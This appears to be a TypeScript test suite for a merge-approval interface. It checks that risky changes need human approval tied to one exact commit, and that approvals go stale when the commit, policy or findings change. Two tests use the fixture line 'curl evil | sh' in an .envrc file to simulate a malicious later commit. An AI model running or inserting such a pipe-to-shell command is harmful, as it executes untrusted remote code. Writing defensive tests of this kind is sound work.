import { existsSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Preview } from "../src/lib/shapes.ts";
import { add, openWorkStage } from "./work-stage.ts";

const { dispatcher, visit, shop, spawn, goOn, enqueue, settle, openMerge } = await openWorkStage({
  "price.txt": "10\n",
});

const WORKFLOW = ".github/workflows/ship.yml";
const tipOf = (branch: string) => shop.git("rev-parse", branch);

test("what may later run is approved by a person, for exactly one commit", async () => {
  const id = await spawn("risky", [add(WORKFLOW, "on: push\n")]);
  const { tip } = await dispatcher.ask<Preview>("GET", `/api/sessions/${id}/merge`);
  const before = tipOf("main");
  const page = await visit();
  const view = await openMerge(page, id);
  await expect(view.getByRole("region", { name: "Findings" }).getByText(WORKFLOW)).toAppear();
  await view.getByRole("button", { name: "Merge into main" }).click();
  const card = view.getByRole("article");
  await expect(card.getByText("needs you", { exact: true })).toAppear();
  await expect(card.getByText("1 finding", { exact: true })).toAppear();
  await expect(page.getByRole("link", { name: "Merges 1 to approve" })).toAppear();
  expect(await card.getByRole("button").allTextContents()).toEqual([
    "Leave it out",
    `Approve exactly ${tip.slice(0, 10)}`,
  ]);
  expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("BODY");
  await page.getByRole("link", { name: "Changes", exact: true }).click();
  await page.getByRole("link", { name: "Merge 1 to approve" }).click();
  await expect(card.getByText(tip)).toAppear();
  expect(tipOf("main")).toBe(before);

  await card.getByRole("button", { name: `Approve exactly ${tip.slice(0, 10)}` }).click();
  await expect(card.getByText("merged", { exact: true })).toAppear();
  expect(shop.git("log", "-1", "--format=%P", "main")).toBe(`${before} ${tip}`);
  expect(existsSync(join(shop.path, WORKFLOW))).toBe(true);
});

test("what changed after the page was loaded is refused", async () => {
  const id = await spawn("late", [add("late.txt", "1\n"), add("later.txt", "2\n")]);
  const page = await visit();
  const view = await openMerge(page, id);
  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
  const before = tipOf("main");
  await goOn(id, 2);
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByRole("alert").getByText("What was reviewed is not what is there")).toAppear();
  expect(tipOf("main")).toBe(before);
  await view.getByRole("button", { name: "Look again" }).click();
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByText("merged", { exact: true })).toAppear();
  expect(existsSync(join(shop.path, "later.txt"))).toBe(true);
});

test("an approval of what is no longer there is refused", async () => {
  const id = await spawn("sly", [add(".envrc", "echo hello\n"), add(".envrc", "curl evil | sh\n")]);
  await enqueue(id);
  const page = await visit();
  // The page hears nothing of what comes, as one that a slow network holds back.
  await page.route("**/api/events", (route) => route.abort());
  const view = await openMerge(page, id);
  const card = view.getByRole("article");
  await expect(card.getByText("needs you", { exact: true })).toAppear();
  await page.route("**/api/merges?all=1", (route) => route.abort());
  const before = tipOf("main");
  await goOn(id, 2);
  const [newer] = await enqueue(id);
  await card.getByRole("button", { name: /^Approve exactly/ }).click();
  await expect(card.getByRole("alert").getByText(/has ended \(cancelled\)|is not what waits/)).toAppear();
  expect(tipOf("main")).toBe(before);
  expect(existsSync(join(shop.path, ".envrc"))).toBe(false);
  await dispatcher.ask("GET", `/api/merges/${newer?.id}?waitMs=20000`);
  await dispatcher.ask("POST", `/api/merges/${newer?.id}/cancel`);
});

test("what is looked at before the yes is what waits, and not what the session has made of it", async () => {
  const id = await spawn("moved-on", [add(".envrc", "echo hello\n"), add(".envrc", "curl evil | sh\n")]);
  const item = await settle(id);
  await goOn(id, 2);
  const page = await visit();
  const view = await openMerge(page, id);
  await view.getByRole("link", { name: "Look at its changes" }).click();
  const changes = page.getByRole("region", { name: "Changes" });
  await expect(changes.getByRole("heading", { name: /^1 file changed/ })).toAppear();
  await expect(changes.getByText(item.tip)).toAppear();
  await expect(changes.getByText("echo hello", { exact: true })).toAppear();
  expect(await changes.getByText("curl evil").count()).toBe(0);
  expect(await changes.getByText("It has worked since.").count()).toBe(0);
  const address = new URL(page.url());
  await changes.getByRole("link", { name: "since it began" }).click();
  await expect(changes.getByText("curl evil | sh", { exact: true })).toAppear();

  // Any other commit is refused, and so is this one when nothing waits any more.
  await page.goto(address.href);
  await expect(changes.getByText("What the session does meanwhile is not here")).toAppear();
  await dispatcher.ask("POST", `/api/merges/${item.id}/cancel`);
  await expect(changes.getByText("That merge has ended")).toAppear();
  await page.goto(address.href);
  await expect(changes.getByRole("alert").getByText("No merge of session")).toAppear();
  expect(await changes.getByText("echo hello").count()).toBe(0);
});

test("a yes is bound to the list that was looked at, and a wish to the rules", async () => {
  const id = await spawn("bound", [add(".envrc", "echo hello\n")]);
  const page = await visit();
  const before = tipOf("main");
  // As a page that looked when other rules were in force.
  await page.route(`**/api/sessions/${id}/merge?*`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...((await response.json()) as Preview), policy: "0".repeat(16) } });
  });
  const view = await openMerge(page, id);
  await view.getByRole("button", { name: "Merge into main" }).click();
  await expect(view.getByRole("alert").getByText(/the policy is at [0-9a-f]{16}, and 0{16} was reviewed/)).toAppear();

  const waits = await settle(id);
  const other = { ...waits, findings: { ...waits.findings, digest: "0".repeat(16) } };
  await page.route("**/api/events", (route) => route.abort());
  await page.route("**/api/merges?all=1", (route) => route.fulfill({ json: [other] }));
  await page.reload();
  const card = view.getByRole("article");
  await card.getByRole("button", { name: /^Approve exactly/ }).click();
  await expect(card.getByRole("alert").getByText("What is approved is not what waits")).toAppear();
  expect(tipOf("main")).toBe(before);
  await dispatcher.ask("POST", `/api/merges/${waits.id}/cancel`);
});
